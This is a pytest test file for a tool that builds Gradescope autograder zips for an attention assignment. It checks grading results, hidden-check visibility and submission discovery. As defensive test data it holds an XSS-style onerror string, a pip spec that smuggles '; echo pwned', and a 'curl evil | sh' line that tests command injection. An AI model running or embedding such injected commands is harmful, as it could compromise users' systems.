"""`autograder gradescope build`: the zip's own `run_autograder`, run against a temporary root laid out as
Gradescope's (/autograder/source, /submission, /results), writes a valid results.json for a correct, a
buggy, a crashing and a missing submission, and when the grade itself crashes or Python cannot start.
setup.sh's install step is not run here (it needs the network); the bundled wheel is installed offline."""
from __future__ import annotations

import json
import math
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any, Dict, Optional

import pytest

from autograder import __version__, cli
from autograder.gradescope.run import find_submission
from autograder.report.document import HIDDEN_MESSAGE
from tests.grading_helpers import CORRECT, FAST_CONFIG, REPO, SUBMISSIONS

HIDDEN = "softmax.masked_exact_zero"  # failed by buggy_mask_ignored.py
COURSE = f'hidden = ["{HIDDEN}"]\n' + FAST_CONFIG + '[gradescope]\nhidden_visibility = "after_due_date"\n'
MAX_SCORE = 80  # the fast config grades no model section
TOP_KEYS = {"score", "execution_time", "output", "output_format", "test_output_format", "visibility",
            "stdout_visibility", "extra_data", "leaderboard", "tests"}
TEST_KEYS = {"score", "max_score", "status", "name", "number", "output", "output_format", "tags", "visibility",
             "extra_data"}
VISIBILITIES = {"hidden", "after_due_date", "after_published", "visible"}


def _strict(constant: str) -> Any:
    raise ValueError(f"{constant} is not JSON")


def check_results(path: Path) -> Dict[str, Any]:
    """results.json as Gradescope's spec reads it: strict JSON, known keys, finite scores, formats that do
    not render student text as HTML."""
    results = json.loads(path.read_text(encoding="utf-8"), parse_constant=_strict)
    assert set(results) <= TOP_KEYS, set(results) - TOP_KEYS
    assert math.isfinite(results["score"]) and results["score"] >= 0
    assert results["output_format"] == "text" and isinstance(results["output"], str)
    assert results.get("visibility", "visible") in VISIBILITIES
    for test in results["tests"]:
        assert set(test) <= TEST_KEYS, set(test) - TEST_KEYS
        assert test["status"] in ("passed", "failed") and test["output_format"] == "text"
        assert test["visibility"] in VISIBILITIES
        assert 0 <= test["score"] <= test["max_score"] and math.isfinite(test["max_score"])
    if results["tests"]:
        assert results["score"] == pytest.approx(sum(t["score"] for t in results["tests"]))
    return results


@pytest.fixture(scope="module")
def autograder_zip(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("gradescope")
    course = folder / "course.toml"
    course.write_text(COURSE)
    out = folder / "autograder.zip"
    assert cli.main(["gradescope", "build", "--out", str(out), "--config", str(course)]) == 0
    return out


def gradescope_root(tmp: Path, autograder_zip: Path, submission: Optional[Path] = None,
                    name: str = "attention.py") -> Path:
    """A root as Gradescope lays it out: the zip unpacked in source/, run_autograder copied next to it."""
    root = tmp / "autograder"
    with zipfile.ZipFile(autograder_zip) as archive:
        archive.extractall(root / "source")
    shutil.copyfile(root / "source" / "run_autograder", root / "run_autograder")
    os.chmod(root / "run_autograder", 0o755)
    (root / "submission").mkdir()
    if submission is not None:
        shutil.copyfile(submission, root / "submission" / name)
    return root


def run_autograder(root: Path, python: str = sys.executable) -> Dict[str, Any]:
    env = dict(os.environ, AUTOGRADER_ROOT=str(root), AUTOGRADER_PYTHON=python, PYTHONPATH=str(REPO))
    done = subprocess.run([str(root / "run_autograder")], cwd=root, env=env, capture_output=True, text=True,
                          timeout=600)
    assert done.returncode in (0, 1), done.stderr[-2000:]
    return check_results(root / "results" / "results.json")


def test_the_zip_holds_setup_run_autograder_course_and_wheel(autograder_zip):
    with zipfile.ZipFile(autograder_zip) as archive:
        names = set(archive.namelist())
        setup = archive.read("setup.sh").decode()
        modes = {i.filename: i.external_attr >> 16 for i in archive.infolist()}
        assert archive.read("course.toml").decode() == COURSE
    wheel = f"wheels/attention_autograder-{__version__}-py3-none-any.whl"
    assert {"setup.sh", "run_autograder", "course.toml", wheel} <= names
    assert modes["setup.sh"] & 0o111 and modes["run_autograder"] & 0o111
    assert "--index-url https://download.pytorch.org/whl/cpu" in setup
    assert f'"$SOURCE/{wheel}[sandbox]"' in setup
    assert "load_mini_transformer" not in setup  # this course grades no model section: nothing to cache
    with zipfile.ZipFile(autograder_zip) as archive:
        for script in ("setup.sh", "run_autograder"):
            subprocess.run(["bash", "-n"], input=archive.read(script), check=True)  # valid bash


def test_the_bundled_wheel_installs_this_grader(autograder_zip, tmp_path):
    with zipfile.ZipFile(autograder_zip) as archive:
        archive.extractall(tmp_path / "zip")
    wheel = next((tmp_path / "zip" / "wheels").glob("*.whl"))
    subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "--no-index", "--target",
                    str(tmp_path / "site"), str(wheel)], check=True, timeout=300)
    site = tmp_path / "site"
    assert (site / "autograder" / "defaults.toml").is_file()
    assert (site / "autograder" / "report" / "schema" / "report.schema.json").is_file()
    assert (site / "reference" / "attention.py").is_file()
    with zipfile.ZipFile(wheel) as archive:
        assert not [n for n in archive.namelist() if n.endswith(".pyc")]
        metadata = next(n for n in archive.namelist() if n.endswith("METADATA"))
        assert "Requires-Dist: torch" in archive.read(metadata).decode()
    version = subprocess.run([sys.executable, "-c", "import autograder; print(autograder.__version__, "
                              "autograder.__file__)"], env=dict(os.environ, PYTHONPATH=str(site)), cwd=tmp_path,
                             capture_output=True, text=True, check=True).stdout.split()
    assert version[0] == __version__ and version[1].startswith(str(site))


def test_the_model_is_cached_when_the_course_grades_it(tmp_path):
    out = tmp_path / "a.zip"
    assert cli.main(["gradescope", "build", "--out", str(out), "--assignment", "attention"]) == 0
    with zipfile.ZipFile(out) as archive:
        assert "load_mini_transformer('distilgpt2')" in archive.read("setup.sh").decode()
        assert archive.read("course.toml").decode() == 'assignment = "attention"\n'


def test_a_correct_submission_gets_every_point(autograder_zip, tmp_path):
    results = run_autograder(gradescope_root(tmp_path, autograder_zip, CORRECT))
    assert results["score"] == MAX_SCORE == sum(t["max_score"] for t in results["tests"])
    assert all(t["status"] == "passed" for t in results["tests"])
    assert results["extra_data"]["file"] == "attention.py"
    assert "All visible checks passed." in results["output"]


def test_a_buggy_submission_hides_its_hidden_check_until_the_due_date(autograder_zip, tmp_path):
    results = run_autograder(gradescope_root(tmp_path, autograder_zip, SUBMISSIONS / "buggy_mask_ignored.py"))
    assert 0 < results["score"] < MAX_SCORE
    tests = {t["name"]: t for t in results["tests"]}
    hidden = tests[HIDDEN]
    assert hidden["status"] == "failed" and hidden["visibility"] == "after_due_date"
    assert hidden["output"] == HIDDEN_MESSAGE
    assert all(t["visibility"] == "visible" for name, t in tests.items() if name != HIDDEN)
    assert results["visibility"] == "visible"  # the total is not hidden
    assert HIDDEN not in results["output"] and "masked_exact_zero" not in results["output"]
    assert "[softmax.rows_sum_to_one" in results["output"]  # visible failures are explained
    assert "1 more check(s) are hidden: their results are shown after the due date." in results["output"]


def test_a_crashing_submission_still_gets_a_result(autograder_zip, tmp_path):
    crashing = tmp_path / "crash.py"
    crashing.write_text("import os\nos._exit(3)\n")
    results = run_autograder(gradescope_root(tmp_path, autograder_zip, crashing))
    assert results["score"] == 0 and sum(t["max_score"] for t in results["tests"]) == MAX_SCORE
    assert results["extra_data"]["status"] == "not_gradable"


def test_a_missing_submission_is_a_zero(autograder_zip, tmp_path):
    root = gradescope_root(tmp_path, autograder_zip)
    (root / "submission" / "notes.txt").write_text("forgot the file")
    results = run_autograder(root)
    assert results["score"] == 0 and sum(t["max_score"] for t in results["tests"]) == MAX_SCORE
    assert "no submission: upload attention.py" in results["output"]
    assert {t["visibility"] for t in results["tests"]} == {"visible", "after_due_date"}


def test_a_grade_that_crashes_or_hangs_is_a_zero_with_the_reason(autograder_zip, tmp_path):
    root = gradescope_root(tmp_path, autograder_zip, CORRECT)
    (root / "source" / "course.toml").write_text(COURSE.replace('after_due_date"\n',
                                                                'after_due_date"\ntimeout_s = 0.01\n'))
    results = run_autograder(root)
    assert results["score"] == 0 and sum(t["max_score"] for t in results["tests"]) == MAX_SCORE
    assert "grading did not finish within 0.01 s" in results["output"]


def test_python_that_cannot_start_still_leaves_a_result(autograder_zip, tmp_path):
    root = gradescope_root(tmp_path, autograder_zip, CORRECT)
    results = run_autograder(root, python=str(tmp_path / "no-python-here"))
    assert results["score"] == 0 and results["tests"] == []
    assert "could not start (exit 127)" in results["output"]


def test_a_notebook_submission_is_found_and_graded(autograder_zip, tmp_path):
    notebook = tmp_path / "nb.ipynb"
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
              "source": CORRECT.read_text()}]
    notebook.write_text(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    root = gradescope_root(tmp_path, autograder_zip, notebook, name="my work.ipynb")
    results = run_autograder(root)
    assert results["extra_data"]["file"] == "my work.ipynb"  # the only candidate, whatever its name
    assert len(results["tests"]) == 29


def test_find_submission_prefers_the_assignment_file_and_refuses_to_guess(tmp_path):
    sub = tmp_path / "submission"
    (sub / "deep" / ".git").mkdir(parents=True)
    (sub / "deep" / ".git" / "hook.py").write_text("")
    (sub / "helper.py").write_text("")
    (sub / "scratch.ipynb").write_text("{}")
    path, why = find_submission(sub, "attention")
    assert path is None and "several files could be the submission (helper.py, scratch.ipynb)" in why
    (sub / "deep" / "attention.py").write_text("")
    assert find_submission(sub, "attention") == (sub / "deep" / "attention.py", "")
    os.symlink(CORRECT, sub / "attention.py")  # a link is never graded (it could point anywhere)
    assert find_submission(sub, "attention") == (sub / "deep" / "attention.py", "")


def test_build_refuses_a_contradicting_assignment_or_visibility(tmp_path, capsys):
    course = tmp_path / "course.toml"
    course.write_text('assignment = "attention"\n')
    assert cli.main(["gradescope", "build", "--out", str(tmp_path / "a.zip"), "--config", str(course),
                     "--assignment", "multihead"]) == 2
    assert "contradicts" in capsys.readouterr().err
    course.write_text('[gradescope]\nhidden_visibility = "tomorrow"\n')
    assert cli.main(["gradescope", "build", "--out", str(tmp_path / "a.zip"), "--config", str(course)]) == 2
    assert "hidden_visibility must be one of" in capsys.readouterr().err
    assert not (tmp_path / "a.zip").exists()


def test_hidden_visibility_hidden_is_the_one_that_hides_the_total():
    from autograder.report.exports import gradescope

    document = {"submission": {"name": "a.py", "load_error": None, "sha256": None}, "status": "graded",
                "checks": [{"id": "scores.values", "section": "scores", "status": "failed", "score": 0,
                            "max_score": 4, "message": "<img src=x onerror=alert(1)>", "hint": None,
                            "hidden": False},
                           {"id": "scores.shapes", "section": "scores", "status": "failed", "score": 0,
                            "max_score": 2, "message": HIDDEN_MESSAGE, "hint": None, "hidden": True}]}
    results = gradescope(document, "hidden")
    assert [t["visibility"] for t in results["tests"]] == ["visible", "hidden"]
    assert "<img src=x onerror=alert(1)>" in results["output"] and results["output_format"] == "text"
    assert "scores.shapes" not in results["output"]
    with pytest.raises(ValueError):
        gradescope(document, "tomorrow")


def test_a_pip_spec_is_one_quoted_shell_word(tmp_path):
    """setup.sh installs --pip-spec as one shell word, and a spec with a line break (which would start a
    command after setup.sh's comment that names it) is refused."""
    import zipfile

    from autograder.gradescope.build import BuildError, build

    spec = "attention-autograder==0.1.0; echo pwned"
    out = build(tmp_path / "a.zip", pip_spec=spec)
    setup = zipfile.ZipFile(out).read("setup.sh").decode()
    assert "install 'attention-autograder==0.1.0; echo pwned'" in setup
    with pytest.raises(BuildError, match="line break"):
        build(tmp_path / "b.zip", pip_spec="attention-autograder\ncurl evil | sh")
